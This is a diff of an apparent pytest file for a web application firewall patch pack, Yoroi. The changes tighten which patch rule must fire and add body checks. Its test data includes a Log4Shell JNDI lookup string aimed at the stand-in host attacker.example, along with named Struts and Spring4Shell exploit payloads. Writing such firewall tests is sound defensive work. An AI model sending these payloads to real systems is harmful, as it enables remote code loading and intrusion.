@@ -66,9 +66,9 @@ def inspect(engine: Engine, request: Request) -> Verdict:
 
 
 def fired(verdict: Verdict, expected: int | tuple[int, ...]) -> bool:
-    """Whether the expected patch rule (one of them; any, for 0) took part in the block."""
+    """Whether the expected patch rule (or one of them) took part in the block."""
     wanted = expected if isinstance(expected, tuple) else (expected,)
-    return wanted == (0,) or bool(verdict.patch_ids & set(wanted))
+    return bool(verdict.patch_ids & set(wanted))
 
 
 def get(uri: str, *headers: tuple[str, str]) -> Request:
@@ -104,11 +104,12 @@ def multipart(uri: str, parts: list[tuple[str, str | None, bytes]]) -> Request:
 
 
 def pack_only(scratch: Path) -> RuleSet:
-    """Yoroi's engine base and the patch pack, with an empty CRS setup and no CRS rules."""
+    """Yoroi's engine base, the patch pack and the body checks: no CRS setup, no CRS rules."""
     empty = scratch / "crs-setup.conf"
     empty.write_text("")
     return RuleSet(engine_config=data_dir() / "modsecurity.conf", crs_setup=empty,
-                   crs_rules=(), patches=patch_files(data_dir() / "patches"))
+                   crs_rules=(), patches=patch_files(data_dir() / "patches"),
+                   body_checks=data_dir() / "body-checks.conf")
 
 
 @pytest.fixture(scope="module")
@@ -190,7 +191,7 @@ SPRING4SHELL = "&".join(
 
 HEADER_LOOKUP = (4800601, 4800603)  # the JNDI spelling or the nested lookup, whichever reads it
 BODY_LOOKUP = (4800602, 4800604)
-Expected = int | tuple[int, ...]  # the patch rule(s) that must fire; 0: any block will do
+Expected = int | tuple[int, ...]  # the patch rule that must fire (or one of several)
 
 LOG4SHELL = [
     "${jndi:ldap://attacker.example:1389/a}",
@@ -223,7 +224,7 @@ def _struts() -> list[tuple[str, Request, Expected]]:
         ("S2-046 filename", multipart("/doUpload.action", [("upload", S2_045, b"x")]),
          4800202),
         ("S2-046 filename with NUL", multipart("/doUpload.action",
-                                               [("upload", s2_046, b"x")]), 0),
+                                               [("upload", s2_046, b"x")]), 4800202),
         ("S2-052 XStream", post("/struts2-rest-showcase/orders/3", "application/xml", S2_052),
          4800301),
         ("S2-052 by extension", post("/orders/3.xml", "text/plain", S2_052), 4800301),
